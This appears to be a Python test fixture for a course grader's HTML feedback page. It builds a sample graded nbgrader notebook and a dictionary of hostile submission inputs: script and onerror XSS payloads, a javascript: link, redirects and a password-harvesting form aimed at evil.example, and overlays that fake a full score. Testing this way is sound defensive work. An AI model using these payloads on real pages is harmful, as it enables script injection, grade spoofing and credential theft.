"""A small graded exercise, its feedback page, and what a submission may put into it."""

from copy import deepcopy

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from convnet_grader.feedback import tasks_of
from convnet_grader.folder import course_config

HOSTILE = {
    "goes elsewhere": '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "a base for all links": '<base href="http://evil.example/">',
    "covers the page": '<div style="position:fixed;inset:0;background:#fff">15 of 15</div>',
    "covers by a class": '<div class="total">15 of 15</div>',
    "styles the page": "<style>section{display:none} .total::after{content:'15 of 15'}</style>",
    "runs": "<script>alert(1)</script>",
    "runs on an error": "<img src=x onerror=alert(1)>",
    "runs in a picture": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "runs when it is opened": '<a href="javascript:alert(1)">look</a>',
    "a page in an address": '<a href="data:text/html,<script>alert(1)</script>">look</a>',
    "loads a picture": '<img src="https://evil.example/seen.png">',
    "loads a picture of its own kind": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "loads a frame": '<iframe src="https://evil.example"></iframe><object data="x"></object>',
    "loads a font": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "moves": "<marquee>15 of 15</marquee><blink>!</blink>",
    "asks for a password": '<form action="https://evil.example"><input name="password"></form>',
    "closes the page's own tags": "</details></section></main></body></html><h1>15 of 15</h1>",
    "an anchor of the page": '<h2 id="task-1">All right</h2>',
    "hidden in a comment": "<!--[if true]><script>alert(1)</script><![endif]-->",
    "half a tag": "<img src=x onerror=alert(1)//",
    "in a table": '<table background="https://evil.example/a.png"><td style="x">1</td></table>',
}


def role(name, **extra):
    base = {"grade_id": name, "grade": False, "solution": False, "locked": True}
    return {"nbgrader": base | extra}


def answer(name, source, **extra):
    return new_code_cell(source, id=name, metadata=role(name, solution=True, **extra))


def check(name, points, score, error=""):
    outputs = [new_output("error", ename="CheckFailed", evalue=error)] if error else []
    metadata = role(name, grade=True, points=points, score=score)
    return new_code_cell(
        "from course_utils import checks", id=name, metadata=metadata, outputs=outputs
    )


def written(name, points, score, **extra):
    metadata = role(name, grade=True, solution=True, points=points, score=score, **extra)
    return new_markdown_cell("Because **it** is so.", id=name, metadata=metadata)


def graded():
    """One part of each kind, as it is when nbgrader has filled in points and comments."""
    return new_notebook(
        cells=[
            new_markdown_cell("# Exercise 91: a *light* one", id="title"),
            new_markdown_cell("### Question 1", id="q1"),
            answer("one", "one = 1"),
            check("one_check", 1, 1.0),
            new_markdown_cell("## Task 1: write `double`\n\nIt takes a number.", id="t1"),
            answer("double", "def double(x):\n    return x"),
            check("shape_check", 2, 2.0),
            check("double_check", 2, 0.0, "your output is 3 where 6 is right"),
            check("again_check", 1, 0.0, "your output is 3 where 6 is right"),
            new_markdown_cell("## Task 2", id="t2"),
            answer("half", "half = None", comment="No response."),
            check("half_check", 2, 0.0, "not answered yet"),
            new_markdown_cell("## Task 3", id="t3"),
            answer("third", "third = 5", comment="Look at the *sign*."),
            check("third_check", 2, 0.0, "5 is what you get if the sign is lost"),
            new_markdown_cell("## In your own words", id="w"),
            written("why", 3, 0.0, unread=True),
            new_markdown_cell("## Left open", id="o"),
            written("open", 1, 0.0, comment="No response."),
        ]
    )


def exercise():
    return deepcopy(graded())


def named(notebook, name):
    return next(cell for cell in notebook.cells if cell.get("id") == name)


def rendered(notebook):
    from nbconvert.exporters import HTMLExporter

    config = course_config(".")
    exporter = HTMLExporter(config=config, template_name="feedback")
    tasks = tasks_of(notebook, exercise())
    tasks[4].section = "Signs & wonders"
    page = {
        "title": tasks[0].name,
        "who": "Kim <Lee> (s1)",
        "dates": ["graded on 29 November 2026"],
        "score": sum(task.points for task in tasks),
        "max_score": sum(task.most for task in tasks),
        "late_penalty": 0,
        "assignment": "91_light",
        "tasks": tasks,
        "unread": 3.0,
    }
    return exporter.from_notebook_node(notebook, {"nbgrader": page})[0]
